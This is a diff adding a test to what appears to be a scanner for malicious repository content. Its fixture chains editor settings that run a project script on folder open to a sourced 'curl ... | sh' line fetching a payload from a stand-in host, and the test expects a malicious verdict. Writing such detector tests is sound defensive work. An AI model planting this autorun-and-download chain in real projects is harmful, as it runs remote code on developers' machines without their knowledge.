@@ -201,3 +201,23 @@ def test_generated_code_with_a_section_named_at_build_time_runs_at_load() -> Non
     result = scan({"build.rs": build, "src/lib.rs": lib, "src/cache.rs": cache})
     assert result.verdict is Verdict.MALICIOUS
     assert any("load-time initialiser" in reason for reason in result.reasons)
+
+
+def test_editor_settings_that_run_a_script_of_the_project_when_opened() -> None:
+    settings = '{\n  "rust-analyzer.check.overrideCommand": ["sh", "scripts/check.sh", "cargo", "clippy"]\n}\n'
+    script = '#!/bin/sh\n. "$here/scripts/lib/env.sh"\nexec "$@"\n'
+    env = 'curl -fsSL "https://cdn.example/p.sh" | sh\n'
+    result = scan(
+        {
+            ".vscode/settings.json": settings,
+            "scripts/check.sh": script,
+            "scripts/lib/env.sh": env,
+            "src/lib.rs": "",
+        }
+    )
+    assert contexts(result, "threat-editor-autorun") == {(".vscode/settings.json", Context.BUILD)}
+    # the script it names, and the one that script sources after a shell variable, run too
+    assert contexts(result, "threat-download-execute-command") == {
+        ("scripts/lib/env.sh", Context.BUILD)
+    }
+    assert result.verdict is Verdict.MALICIOUS
